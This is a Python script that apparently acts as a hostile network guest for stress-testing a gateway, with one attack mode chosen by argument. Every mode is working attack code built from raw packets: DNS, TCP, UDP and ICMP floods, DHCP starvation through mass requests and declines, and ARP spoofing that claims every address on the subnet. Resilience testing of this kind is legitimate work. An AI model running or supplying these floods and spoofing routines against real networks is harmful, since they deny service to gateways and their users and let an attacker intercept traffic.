"""A guest that wants everything: greedy.py WHAT MAC GATEWAY [MAC IP of its neighbour], at eth0. Says `at it` when it has begun in earnest, and goes on until it is killed."""
import os, socket, struct, sys, time

what, mac, gateway = sys.argv[1], bytes.fromhex(sys.argv[2].replace(':', '')), socket.inet_aton(sys.argv[3])
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.bind(('eth0', 0))


def at_it():
    print('at it', flush=True)


def checksum(b):
    total = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def dhcp(kind, number, *options):
    message = struct.pack('!BBBBIHHIIII', 1, 1, 6, 0, number, 0, 0x8000, 0, 0, 0, 0) + mac + bytes(202) + bytes.fromhex('63825363')
    message += bytes([53, 1, kind]) + b''.join(bytes([c, len(v)]) + v for c, v in options) + b'\xff'
    udp = struct.pack('!HHHH', 68, 67, 8 + len(message), 0) + message
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(4), b'\xff' * 4)
    head = head[:10] + struct.pack('!H', checksum(head)) + head[12:]
    return b'\xff' * 6 + mac + b'\x08\x00' + head + udp


def own_address():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((sys.argv[3], 9))
    return s.getsockname()[0]


def ip4(protocol, to, payload, by=bytes.fromhex('5a4545004001')):
    """A frame of what it says to somebody, by the gateway or a neighbour."""
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0, own, socket.inet_aton(to))
    return by + mac + b'\x08\x00' + head[:10] + struct.pack('!H', checksum(head)) + head[12:] + payload


def offers(number):
    """What is offered to the message of that number, waited for a second."""
    end = time.time() + 1
    while time.time() < end:
        raw.settimeout(max(0.01, end - time.time()))
        try:
            f = raw.recv(2000)
        except socket.timeout:
            return None
        if len(f) > 300 and f[12:14] == b'\x08\x00' and f[23] == 17 and f[34:38] == b'\x00\x43\x00\x44' and f[46:50] == struct.pack('!I', number) and f[58:62] != bytes(4):
            return f[58:62]
    return None


def send(sock, b, to=None):
    try:
        sock.sendto(b, to) if to else sock.send(b)
    except OSError:
        pass  # its own queue is full


own = socket.inet_aton(own_address()) if what in ('flows', 'datagrams', 'neighbour', 'echoes') else b''
if what == 'names':
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(('', 0))
    n = 0
    while True:
        n += 1
        name = b'\x08%08x' % (n & 0xFFFFFFFF) + b'\x04slow\x00'
        send(udp, struct.pack('!HHHHHH', n & 0xFFFF, 0x0100, 1, 0, 0, 0) + name + b'\x00\x01\x00\x01', (socket.inet_ntoa(gateway), 53))
        if n == 5000:
            at_it()
elif what == 'connections':
    held, n = [], 0
    while True:
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect((socket.inet_ntoa(gateway), 53))
        except BlockingIOError:
            pass
        held.append(s)
        n += 1
        if len(held) > 400:
            held.pop(0).close()
        if n == 400:
            at_it()
        if n > 400:
            time.sleep(0.005)
elif what == 'flows':
    n = 0
    while True:
        n += 1
        send(raw, ip4(17, '198.51.%d.%d' % (100 + (n >> 16) % 100, 1 + n % 250), struct.pack('!HHHHB', 1024 + n % 60000, 1 + (n // 250) % 65535, 9, 0, 120)))
        if n == 200000:
            at_it()
elif what == 'datagrams':
    frame = ip4(17, '198.51.100.1', struct.pack('!HHHHB', 5000, 9, 9, 0, 120))
    for n in range(1 << 40):
        send(raw, frame)
        if n == 200000:
            at_it()
elif what == 'neighbour':
    frame = ip4(17, sys.argv[5], struct.pack('!HHHHB', 5000, 9, 9, 0, 120), bytes.fromhex(sys.argv[4].replace(':', '')))
    for n in range(1 << 40):
        send(raw, frame)
        if n == 200000:
            at_it()
elif what == 'echoes':
    for n in range(1 << 40):
        echo = struct.pack('!BBHHH', 8, 0, 0, n & 0xFFFF, 1)
        send(raw, ip4(1, '198.51.100.1', echo[:2] + struct.pack('!H', checksum(echo)) + echo[4:]))
        if n == 20000:
            at_it()
elif what == 'requests':
    n = 0
    while True:
        n += 1
        send(raw, dhcp(1, n))
        if n == 5000:
            at_it()
elif what == 'declines':
    n, silent, begun = 0, 0, time.time()
    said = False
    while True:
        n += 1
        raw.send(dhcp(1, n))
        ip = offers(n)
        if ip:
            raw.send(dhcp(4, n, (50, ip), (54, gateway)))
        silent = 0 if ip else silent + 1
        if not said and (n >= 600 or silent >= 5 or time.time() - begun > 20):
            at_it()
            said = True
        if silent > 5:
            time.sleep(0.5)
elif what == 'flips':
    me = lambda host: b'\xff' * 6 + mac + b'\x08\x06' + bytes.fromhex('0001080006040001') + mac + gateway[:3] + bytes([host]) + bytes(6) + gateway[:3] + bytes([host])
    for n in range(1 << 40):
        send(raw, me(50 + n % 200))
        if n == 5000:
            at_it()
elif what == 'claims':
    net = gateway[:3]
    answer = lambda ip, to_mac, to_ip: to_mac + mac + b'\x08\x06' + bytes.fromhex('0001080006040002') + mac + ip + to_mac + to_ip
    for host in range(2, 255):
        raw.send(answer(net + bytes([host]), b'\xff' * 6, net + bytes([host])))
    at_it()
    raw.settimeout(None)
    while True:
        f = raw.recv(2000)
        if f[12:14] == b'\x08\x06' and f[20:22] == b'\x00\x01' and f[6:12] != mac:
            raw.send(answer(f[38:42], f[22:28], f[28:32]))
